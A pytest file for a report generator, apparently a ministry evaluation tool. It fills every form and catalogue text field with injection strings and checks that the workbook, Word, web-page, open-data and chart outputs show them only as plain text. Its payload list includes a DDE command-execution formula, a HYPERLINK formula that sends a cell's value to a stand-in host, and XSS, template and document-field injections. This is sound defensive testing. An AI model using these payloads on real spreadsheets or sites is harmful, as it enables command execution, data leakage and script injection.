"""What users write goes out as text: no formula, link, field or script, in any output."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any, Final

import pytest
from openpyxl import load_workbook

from evaluator.catalogue import Catalogue
from evaluator.catalogue.kpi_rows import KpiRow
from evaluator.catalogue.rows import MeasureRow, RoundRow, TextRow
from evaluator.files import Workspace
from evaluator.form.sheets import (
    ActivityAnswer,
    ContactRow,
    KpiAnswer,
    MeasureAnswer,
    OutcomeAnswer,
)
from evaluator.outputs import theme
from evaluator.outputs.charts import charts_of
from evaluator.outputs.charts.frame import A4
from evaluator.outputs.document import render_document
from evaluator.outputs.opendata import open_data
from evaluator.outputs.page import render_page
from evaluator.outputs.workbook import render_workbook
from evaluator.results.results import Results
from evaluator.secretariat import evaluate
from evaluator.secretariat.opening import open_round
from evaluator.sheets.layout import Row, layout_of
from tests.builders import R07, cell_of, edit, submitted
from tests.outputs.test_page import Page

STRINGS: Final = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"押す")',
    '=WEBSERVICE("http://x.example/")',
    "{=SUM(A1:A9)}",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\t=1+1",
    "http://x.example/",
    "mailto:a@x.example",
    "internal:図表1!A1",
    "external:c:\\x.xlsx",
    "file:///x",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    "]]></w:t><w:fldSimple w:instr='x'/>",
    "$\\frac{1}{0}$ &amp; %s {0}",
    '&L&"Arial"\' OR 1=1 --',
)
METI: Final = "経済産業省"
_SAFE: Final = frozenset({"category", "heading", "domain", "choice"})
"""Fields that hold a choice of the catalogue's: another value would not count."""


def type_text(cell: Any, text: str) -> None:
    """Put a text into a cell as a text, however much it looks like a formula."""
    cell.value = "x"
    cell.value = text
    cell.data_type = "s"


def fill(sheet: Any, model: type[Row], rows: range, fields: tuple[str, ...]) -> None:
    for field, offset in zip(fields, range(len(fields)), strict=True):
        strings = cycle(STRINGS[offset:] + STRINGS[:offset])
        for row in rows:
            type_text(cell_of(sheet, model, field, row=row), next(strings))


def poison_form(book: Any) -> None:
    """Write every string into every text field of a form."""
    first = 5
    for model, fields in (
        (MeasureAnswer, ("progress", "reason", "next_plan", "evidence_url")),
        (KpiAnswer, ("note",)),
    ):
        sheet = book[layout_of(model).title]
        fill(sheet, model, range(first, first + len(STRINGS)), fields)
    fill(
        book[OutcomeAnswer.sheet_title],
        OutcomeAnswer,
        range(first, first + len(STRINGS)),
        ("text", "attribution"),
    )
    for row in range(first, first + len(STRINGS)):
        sheet = book[OutcomeAnswer.sheet_title]
        cell_of(sheet, OutcomeAnswer, "category", row=row).value = "(1)産学官金の取組の強化"
    sheet = book[ActivityAnswer.sheet_title]
    top = 40
    fill(sheet, ActivityAnswer, range(top, top + len(STRINGS)), ("text", "attribution"))
    for row in range(top, top + len(STRINGS)):
        cell_of(sheet, ActivityAnswer, "domain", row=row).value = "13 ⑬半導体"
        cell_of(sheet, ActivityAnswer, "status", row=row).value = "取組あり"
    for field, text in zip(("division", "name", "email", "phone"), STRINGS, strict=False):
        cell = contact_cell(book[ContactRow.sheet_title], field)
        type_text(cell, text)


def contact_cell(sheet: Any, field: str) -> Any:
    for cells in sheet.iter_rows():
        for cell in cells:
            if cell.value == f"{ContactRow.sheet_key}.{field}":
                return sheet.cell(cell.row + 2, cell.column)
    raise LookupError(field)


def poison_catalogue(book: Any) -> None:
    """Write the strings into the texts of the catalogue that are printed."""
    first = 5
    rows = range(first, first + len(STRINGS))
    fill(book[layout_of(MeasureRow).title], MeasureRow, rows, ("title", "division"))
    fill(book[layout_of(KpiRow).title], KpiRow, rows, ("name",))
    this = book[layout_of(RoundRow).title]
    for field, text in (
        ("notice", STRINGS[18]),
        ("source_note", STRINGS[2]),
        ("strategy", STRINGS[24]),
        ("contact", STRINGS[0]),
    ):
        type_text(cell_of(this, RoundRow, field, row=first), text)
    texts = book[layout_of(TextRow).title]
    type_text(cell_of(texts, TextRow, "value", "別紙の表題"), STRINGS[19])
    type_text(cell_of(texts, TextRow, "value", "図表1の題"), STRINGS[1])


@pytest.fixture(scope="module")
def poisoned(
    sample_workspace: Workspace, catalogue: Catalogue, tmp_path_factory: pytest.TempPathFactory
) -> Results:
    """A round in whose every text field the strings stand."""
    folder = tmp_path_factory.mktemp("poisoned")
    workspace = poisoned_workspace(sample_workspace, catalogue, folder)
    return evaluate.evaluate(open_round(workspace, R07))


def poisoned_workspace(
    sample_workspace: Workspace, catalogue: Catalogue, folder: Path
) -> Workspace:
    """Put the catalogue and one ministry's form into a folder, with the strings in them."""
    workspace = Workspace(folder)
    for path in (
        sample_workspace.catalogue(R07),
        submitted(sample_workspace, catalogue, METI),
    ):
        target = folder / path.relative_to(sample_workspace.root)
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(path.read_bytes())
    edit(workspace.catalogue(R07), poison_catalogue)
    edit(submitted(workspace, catalogue, METI), poison_form)
    return workspace


def clean(text: str) -> str:
    """Return a string as it is after reading: no tab, no spaces around."""
    return text.strip()


def test_the_strings_reach_the_report(poisoned: Results) -> None:
    bullets = [b.text for b in poisoned.annex.categories[0].bullets]
    assert len(STRINGS) == 25
    assert bullets == [clean(text) for text in STRINGS]
    written = {a.row.progress for r in poisoned.marks for a in r.answers.values()}
    assert {clean(text) for text in STRINGS} <= written


def parts(content: bytes) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels")):
                text = package.read(name).decode()
                ET.fromstring(text)  # noqa: S314  # ours: well-formed, whatever was written in
                yield name, text


def test_excel_has_no_formula_and_no_link(poisoned: Results) -> None:
    content = render_workbook(poisoned)

    for name, text in parts(content):
        assert "<f>" not in text, name
        # the links of the cover, to sheets of this file
        assert len(re.findall("<hyperlink ", text)) == len(
            re.findall("<hyperlink [^>]*location=", text)
        )
        assert "r:id" not in "".join(re.findall("<hyperlink [^>]*", text)), name
        assert 'TargetMode="External"' not in text, name
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    shown = {str(cell.value) for cell in cells}
    assert {clean(text) for text in STRINGS} <= shown


def test_word_has_no_link_and_only_our_fields(poisoned: Results) -> None:
    for name, text in parts(render_document(poisoned)):
        assert "<w:hyperlink" not in text, name
        assert "<w:fldSimple" not in text, name
        assert 'TargetMode="External"' not in text, name
        codes = set(re.findall(r"<w:instrText[^>]*>([^<]*)<", text))
        assert codes <= {" PAGE ", " NUMPAGES ", " SEQ 別紙図表 \\* ARABIC "}


def test_the_page_has_no_script_link_or_image_of_theirs(poisoned: Results) -> None:
    page = Page(render_page(poisoned))

    assert len(page.all("script")) == 1
    assert "alert" not in page.script
    assert not page.all("img")
    assert all(str(a["href"]).startswith("#") for a in page.all("a"))
    assert not [name for _, attrs in page.elements for name in attrs if name.startswith("on")]
    assert "<script>alert(1)</script>" in page.text
    assert "{{ 7*7 }}{% raw %}" in page.text


def test_open_data_has_nothing_that_a_spreadsheet_runs(poisoned: Results) -> None:
    dangerous = re.compile(r"\s*[=+\-@＝＋－＠]")
    for name, content in open_data(poisoned):
        if name.endswith(".csv"):
            rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
            for row in rows:
                for cell in row:
                    runs = dangerous.match(cell)
                    assert not runs or re.fullmatch(r"-?\d+(\.\d+)?", cell), (name, cell)
        if name.endswith(".json"):
            json.loads(content)


@pytest.mark.slow
def test_charts_draw_and_describe_them_as_text(poisoned: Results) -> None:
    with theme.themed():
        for chart in charts_of(poisoned):
            figure = chart.draw(poisoned, A4)
            alt = chart.alt(poisoned)
            drawing = theme.svg(figure, chart.name, chart.title(poisoned), alt)
            root = ET.fromstring(drawing)  # noqa: S314  # ours
            tags = {node.tag.rpartition("}")[2] for node in root.iter()}
            assert not tags & {"script", "a", "image", "foreignObject"}
            assert root[1].text == alt
